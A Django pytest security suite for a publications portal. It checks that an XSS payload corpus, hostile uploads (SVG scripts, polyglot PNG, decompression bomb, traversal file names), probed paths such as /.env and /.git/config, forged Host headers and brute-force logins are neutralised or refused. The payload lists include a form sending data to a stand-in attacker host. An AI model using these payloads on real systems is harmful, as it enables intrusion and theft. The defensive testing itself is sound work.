"""Hostile input from a careless or compromised editor account, and from the outside.

XSS payloads saved through the admin come out inert on the public page, in the list, the
feeds, the JSON-LD block and the citation files; hostile uploads are refused or stored under
safe generated names; forged hosts, probing paths and brute-forced logins get nowhere.
"""

import io
import json
import re
import xml.etree.ElementTree as ET
from html.parser import HTMLParser

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import override_settings
from django.urls import reverse
from django.utils.html import escape
from PIL import Image

from publications.demo_files import banner_png, simple_pdf
from publications.models import Attachment, Publication
from tests.desk.helpers import post_form
from tests.factories import make_person, pdf_upload, png_upload
from tests.publications.test_admin import ADD_URL, publication_form, with_attachment
from tests.sitemaps import sitemap_pages

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def _fast_passwords(settings):
    """Brute-force tests log in dozens of times; a slow hash only slows the suite."""
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]


XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src=x onerror="alert(1)">',
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="jav\tascript:alert(1)">tab</a>',
    '<a href="jav&#x0A;ascript:alert(1)">newline entity</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">ents</a>',
    '<a href=" javascript:alert(1)">leading space</a>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "<svg onload=alert(1)><circle r=1 /></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="background:url(javascript:alert(1))">styled</p>',
    '<div style="width:expression(alert(1))">ie</div>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<form action="https://evil.example/steal"><input name=p><button>Go</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<body onload="alert(1)">',
    '<details open ontoggle="alert(1)">x</details>',
    '<video><source onerror="alert(1)"></video>',
    '<input autofocus onfocus="alert(1)">',
    "<!--<img src=x onerror=alert(1)>-->",
    '"><script>alert(1)</script>',
    "'-alert(1)-'",
    "</textarea><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>"
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<a href="https://ok.example" target="_blank" onclick="alert(1)">ok link</a>',
]

BREAKOUT_TITLES = [
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)> & <b>bold</b>',
]

URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "srcset"}
DANGEROUS_TAGS = {
    "iframe", "object", "embed", "svg", "math", "style", "base", "frame", "frameset",
    "applet", "template", "video", "audio", "source", "textarea", "details",
}  # fmt: skip


class ActiveContent(HTMLParser):
    """Everything in a document that could run, load or send something it should not."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found = []

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        if tag == "script":
            if not (
                (attributes.get("src") or "").startswith("/static/")
                or attributes.get("type") in ("application/ld+json", "application/json")
            ):
                self.found.append(f"<script {attributes}>")
        elif tag in DANGEROUS_TAGS:
            self.found.append(f"<{tag}>")
        elif tag == "meta" and "http-equiv" in attributes:
            self.found.append(f"<meta http-equiv {attributes}>")
        elif tag == "link" and not (attributes.get("href") or "").startswith(
            ("/", settings.SITE_URL + "/")
        ):
            self.found.append(f"<link {attributes}>")
        elif tag == "form" and not (attributes.get("action") or "/").startswith("/"):
            self.found.append(f"<form {attributes}>")
        elif tag == "img" and not (attributes.get("src") or "").startswith(("/media/", "/static/")):
            self.found.append(f"<img {attributes}>")
        for name, value in attrs:
            if name.startswith("on") or name in ("style", "srcdoc", "formaction"):
                self.found.append(f"{tag} {name}={value!r}")
            if name in URL_ATTRIBUTES and value:
                squeezed = re.sub(r"[\x00-\x20]+", "", value).lower()
                if squeezed.startswith(("javascript:", "vbscript:", "data:")):
                    self.found.append(f"{tag} {name}={value!r}")

    handle_startendtag = handle_starttag


def active_content(markup):
    parser = ActiveContent()
    parser.feed(markup)
    parser.close()
    return parser.found


def test_the_checker_itself_finds_what_it_should():
    assert active_content("<p>fine <a href='https://ok.example'>ok</a></p>") == []
    for payload in XSS[:34]:
        if "<!--" not in payload and "<scr<" not in payload:
            assert active_content(payload), payload


def save_through_admin(client, slug, payload, title=None, author=None):
    data = publication_form(
        title=title or f"Hostile {slug}",
        slug=slug,
        subtitle=payload[:300],
        summary=f"Summary {payload}",
        body=f"<p>Body {payload}</p>",
        status="published",
        published_at_0="2026-01-05",
        published_at_1="10:00:00",
        banner_caption=payload[:500],
        banner_credit=payload[:200],
    )
    if author is not None:
        data.update(
            {
                "authorships-TOTAL_FORMS": "1",
                "authorships-0-person": str(author.pk),
                "authorships-0-order": "1",
                "authorships-0-byline_position": payload[:300],
            }
        )
    response = client.post(ADD_URL, data)
    assert response.status_code == 302, response.context["errors"] if response.context else ""
    publication = Publication.objects.get(slug=slug)
    assert publication.is_public
    return publication


def json_ld_blocks(page):
    return re.findall(
        r'<script type="application/ld\+json"[^>]*>(.*?)</script>', page, flags=re.DOTALL
    )


def feed_fragments(client):
    """Every piece of the feeds a reader will render as HTML, and every title."""
    # Our own output, parsed to be checked: S314 (untrusted XML) does not apply.
    rss = ET.fromstring(client.get("/feeds/latest.rss").content)  # noqa: S314
    atom = ET.fromstring(client.get("/feeds/latest.atom").content)  # noqa: S314
    ns = {"a": "http://www.w3.org/2005/Atom"}
    as_html = [item.findtext("description") or "" for item in rss.iter("item")]
    as_html += [
        entry.findtext("a:summary", namespaces=ns) or "" for entry in atom.iterfind("a:entry", ns)
    ]
    titles = [item.findtext("title") for item in rss.iter("item")]
    titles += [entry.findtext("a:title", namespaces=ns) for entry in atom.iterfind("a:entry", ns)]
    return as_html, titles


@pytest.mark.slow
def test_xss_corpus_saved_through_the_admin_comes_out_inert_everywhere(admin_client, client):
    assert len(XSS) >= 30
    author = make_person(family_name="Target")
    publications = [
        save_through_admin(admin_client, f"hostile-{index}", payload, author=author)
        for index, payload in enumerate(XSS)
    ]
    admin_client.logout()

    for publication, payload in zip(publications, XSS, strict=True):
        page = client.get(publication.get_absolute_url()).content.decode()
        assert active_content(page) == [], payload
        # The summary is plain text: shown, escaped, never interpreted.
        assert escape(f"Summary {payload}") in page
        for block in json_ld_blocks(page):
            assert "<" not in block
            json.loads(block)

    listing = client.get("/publications/").content.decode()
    assert active_content(listing) == []
    author_page = client.get(author.get_absolute_url()).content.decode()
    assert active_content(author_page) == []
    search = client.get("/search/?q=Hostile").content.decode()
    assert active_content(search) == []

    as_html, _titles = feed_fragments(client)
    assert len(as_html) >= 2 * 30
    for fragment in as_html:
        assert active_content(fragment) == [], fragment


@pytest.mark.parametrize("title", BREAKOUT_TITLES)
def test_titles_that_try_to_break_out_are_escaped_everywhere(admin_client, client, title):
    publication = save_through_admin(admin_client, "breakout", "plain", title=title)
    admin_client.logout()
    page = client.get(publication.get_absolute_url()).content.decode()
    assert active_content(page) == []
    assert title not in page
    head = page.split("</head>")[0]
    assert re.search(r"<title>[^<]*</title>", head), "the title element was broken"
    for meta in re.findall(r"<meta [^>]*>", head):
        assert "<script" not in meta and "<img" not in meta
    blocks = json_ld_blocks(page)
    assert len(blocks) == 1
    assert "</" not in blocks[0] and "<" not in blocks[0]
    assert json.loads(blocks[0])[0]["headline"] == title

    as_html, titles = feed_fragments(client)
    assert title in titles  # XML-escaped in transit, the exact text once parsed
    for fragment in as_html:
        assert active_content(fragment) == []
    for sitemap in sitemap_pages(client):
        ET.fromstring(sitemap)  # noqa: S314 - well-formed, our own output
        assert "<script" not in sitemap

    bib = client.get(reverse("publications:cite-bib", args=[publication.slug]))
    ris = client.get(reverse("publications:cite-ris", args=[publication.slug]))
    for response in (bib, ris):
        assert response["Content-Type"].split(";")[0] in (
            "application/x-bibtex",
            "application/x-research-info-systems",
        )
        assert response["X-Content-Type-Options"] == "nosniff"
        assert response["Content-Disposition"] == (
            f'attachment; filename="breakout.{"bib" if response is bib else "ris"}"'
        )


def test_citation_files_keep_their_structure_with_hostile_titles(admin_client, client):
    title = "Evil}, author = {Forged\nER  - \nTY  - JOUR\nTI  - Forged"
    publication = Publication.objects.create(
        title=title, slug="structure", summary="x", status="published"
    )
    bib = client.get(reverse("publications:cite-bib", args=[publication.slug])).content.decode()
    assert bib.count("author = ") <= 1 and "\\}" in bib
    ris = client.get(reverse("publications:cite-ris", args=[publication.slug])).content.decode()
    tags = [line[:2] for line in ris.strip().splitlines()]
    assert tags.count("TY") == 1 and tags.count("ER") == 1 and tags.count("TI") == 1, ris


# --- uploads ------------------------------------------------------------------------


def post_banner(client, upload):
    return client.post(ADD_URL, publication_form(banner_image=upload, banner_alt="A picture"))


def gif_frames(count):
    frames = [Image.new("P", (8, 8), color) for color in range(count)]
    buffer = io.BytesIO()
    frames[0].save(buffer, "GIF", save_all=True, append_images=frames[1:], loop=0)
    return buffer.getvalue()


def animated_png(count):
    frames = [Image.new("RGB", (8, 8), (i, 0, 0)) for i in range(count)]
    buffer = io.BytesIO()
    frames[0].save(buffer, "PNG", save_all=True, append_images=frames[1:])
    return buffer.getvalue()


def bomb_png():
    buffer = io.BytesIO()
    Image.new("1", (14_000, 14_000)).save(buffer, "PNG")  # 196 million pixels in 30 kB
    return buffer.getvalue()


SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
# Built when the test runs, not at collection.
HOSTILE_BANNERS = {
    "html named png": ("photo.png", lambda: b"<html><script>alert(1)</script></html>"),
    "svg": ("logo.svg", lambda: SVG),
    "svg named png": ("logo.png", lambda: SVG),
    "animated gif": ("anim.gif", lambda: gif_frames(256)),
    "animated gif named png": ("anim.png", lambda: gif_frames(256)),
    "animated png": ("anim.png", lambda: animated_png(5)),
    "decompression bomb": ("bomb.png", bomb_png),
    "empty": ("empty.png", lambda: b""),
    "truncated png": ("cut.png", lambda: banner_png(size=(40, 20))[:60]),
}


@pytest.mark.slow
@pytest.mark.parametrize("name", HOSTILE_BANNERS)
def test_hostile_banner_images_are_refused_with_a_form_error(editor_client, name):
    filename, content = HOSTILE_BANNERS[name]
    response = post_banner(editor_client, SimpleUploadedFile(filename, content()))
    assert response.status_code == 200, name
    errors = response.context["adminform"].form.errors
    assert "banner_image" in errors, (name, errors)
    assert not Publication.objects.exists()


def test_a_thousand_frame_gif_is_refused(editor_client):
    frames = [Image.new("P", (4, 4), i % 256) for i in range(1000)]
    buffer = io.BytesIO()
    frames[0].save(buffer, "GIF", save_all=True, append_images=frames[1:], optimize=False)
    upload = SimpleUploadedFile("anim.gif", buffer.getvalue())
    response = post_banner(editor_client, upload)
    assert response.status_code == 200
    assert "banner_image" in response.context["adminform"].form.errors
    assert not Publication.objects.exists()


def test_png_with_html_appended_is_stored_safely_and_served_as_an_image(editor_client, client):
    polyglot = banner_png(size=(40, 20)) + b"<html><script>alert(document.domain)</script></html>"
    response = post_banner(editor_client, SimpleUploadedFile("../../../x<script>.png", polyglot))
    if response.status_code == 200:  # refusing it is as good as storing it safely
        assert "banner_image" in response.context["adminform"].form.errors
        return
    assert response.status_code == 302
    name = Publication.objects.get().banner_image.name
    assert re.fullmatch(r"images/\d{4}/\d{2}/[0-9a-f]{12}/[a-z0-9-]+\.png", name), name
    served = client.get(f"/media/{name}")
    assert served.status_code == 200
    assert served["Content-Type"] == "image/png"
    assert served["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in served["Content-Security-Policy"]


def test_a_publication_with_stored_uploads_can_be_saved_again(reviewer_client):
    """The upload checks look at new files only; a stored one is not reopened on every save."""
    data = with_attachment(publication_form(banner_image=png_upload(), banner_alt="A"),
                           pdf_upload())  # fmt: skip
    assert reviewer_client.post(ADD_URL, data).status_code == 302
    publication = Publication.objects.get()
    attachment = publication.attachments.get()
    change = reverse("admin:publications_publication_change", args=[publication.pk])
    data = publication_form(status="published", banner_alt="A")
    data.update({
        "attachments-TOTAL_FORMS": "1", "attachments-INITIAL_FORMS": "1",
        "attachments-0-id": str(attachment.pk), "attachments-0-publication": str(publication.pk),
        "attachments-0-title": "Full report", "attachments-0-language": "en",
        "attachments-0-order": "0",
    })  # fmt: skip
    response = post_form(reviewer_client, change, data)
    assert response.status_code == 302, response.context["errors"] if response.context else ""
    publication.refresh_from_db()
    assert publication.status == "published" and publication.banner_image


HOSTILE_PDFS = {
    "html named pdf": ("report.pdf", b"<html><script>alert(1)</script></html>", "not a PDF"),
    "pdf signature then html": ("report.pdf", b"%PDF-1.4\n<html><script>x</script>", "damaged"),
    "pdf named exe": ("report.exe", simple_pdf("x", ["y"]), "Only PDF files"),
    "pdf named html": ("report.html", simple_pdf("x", ["y"]), "Only PDF files"),
    "double extension": ("report.pdf.html", simple_pdf("x", ["y"]), "Only PDF files"),
}


@pytest.mark.parametrize("name", HOSTILE_PDFS)
def test_hostile_attachments_are_refused_with_a_clear_error(editor_client, name):
    filename, content, message = HOSTILE_PDFS[name]
    data = with_attachment(publication_form(), SimpleUploadedFile(filename, content))
    response = editor_client.post(ADD_URL, data)
    assert response.status_code == 200
    assert message in response.content.decode()
    assert not Attachment.objects.exists()


@pytest.mark.parametrize(
    "filename",
    ["../../x.pdf", "..\\..\\x.pdf", "/etc/passwd.pdf", "report\u202eFDP.exe.pdf", "a\x00b.pdf"],
)
def test_hostile_file_names_get_safe_generated_names(reviewer_client, client, filename):
    data = with_attachment(publication_form(status="published", published_at_0="2026-01-05",
                                            published_at_1="10:00:00"), pdf_upload())  # fmt: skip
    data["attachments-0-file"] = SimpleUploadedFile(filename, pdf_upload().read())
    response = reviewer_client.post(ADD_URL, data)
    assert response.status_code == 302
    attachment = Attachment.objects.get()
    assert re.fullmatch(r"files/\d{4}/\d{2}/[0-9a-f]{12}/[a-z0-9-]+\.pdf", attachment.file.name)
    download = client.get(attachment.get_absolute_url())
    assert download["Content-Type"] == "application/pdf"
    assert download["X-Content-Type-Options"] == "nosniff"
    disposition = download["Content-Disposition"]
    assert re.fullmatch(r'inline; filename="[a-z0-9-]+\.pdf"', disposition), disposition


# --- requests from outside ----------------------------------------------------------


@override_settings(ALLOWED_HOSTS=["portal.example.org"])
def test_a_forged_host_header_gets_400(client):
    assert client.get("/", HTTP_HOST="evil.example").status_code == 400
    assert client.get("/", HTTP_HOST="portal.example.org.evil.example").status_code == 400
    assert client.get("/", HTTP_HOST="portal.example.org").status_code == 200


@pytest.mark.parametrize(
    "path",
    ["/.git/config", "/.env", "/media/", "/media/files/", "/media/../settings.py",
     "/static/../dialogue_portal/settings.py", "/db.sqlite3", "/media/%2e%2e/db.sqlite3"],
)  # fmt: skip
def test_probing_paths_find_nothing(client, path):
    response = client.get(path)
    assert response.status_code in (400, 404), path
    assert b"Index of" not in response.content


# --- brute force on the admin login -------------------------------------------------

LOGIN = "/admin/login/?next=/admin/"


def login(client, password, address, forwarded=None):
    extra = {"REMOTE_ADDR": address}
    if forwarded:
        extra["HTTP_X_FORWARDED_FOR"] = forwarded
    return client.post(LOGIN, {"username": "root", "password": password}, **extra)


def logged_in(response):
    return response.status_code == 302 and response["Location"] == "/admin/"


@override_settings(TRUSTED_PROXY_COUNT=0, AXES_FAILURE_LIMIT=5)
def test_repeated_wrong_passwords_lock_the_account_at_that_address(client, superuser):
    for attempt in range(4):
        assert login(client, f"wrong-{attempt}", "203.0.113.5").status_code == 200
    assert login(client, "wrong-5", "203.0.113.5").status_code == 429  # the fifth locks
    locked = login(client, "pw-root-123!", "203.0.113.5")
    assert not logged_in(locked)
    assert locked.status_code == 429


@override_settings(TRUSTED_PROXY_COUNT=0, AXES_FAILURE_LIMIT=5)
def test_rotating_x_forwarded_for_does_not_reset_the_count(client, superuser):
    for attempt in range(5):
        login(client, "wrong", "203.0.113.5", forwarded=f"198.51.100.{attempt}")
    assert not logged_in(login(client, "pw-root-123!", "203.0.113.5", forwarded="198.51.100.77"))


@override_settings(TRUSTED_PROXY_COUNT=0, AXES_FAILURE_LIMIT=5)
def test_a_forged_x_forwarded_for_does_not_lock_out_someone_elses_address(
    client, superuser, editor
):
    # The attacker at .66 claims to be the editor at .5: the address .66 is locked (and the
    # username guessed, from every address), the editor's address .5 is not.
    for _ in range(6):
        login(client, "wrong", "203.0.113.66", forwarded="203.0.113.5")
    assert not logged_in(login(client, "pw-root-123!", "203.0.113.66"))
    editor_login = client.post(
        LOGIN,
        {"username": "editor", "password": "pw-editor-123!"},
        REMOTE_ADDR="203.0.113.5",
        HTTP_X_FORWARDED_FOR="203.0.113.66",
    )
    assert logged_in(editor_login)
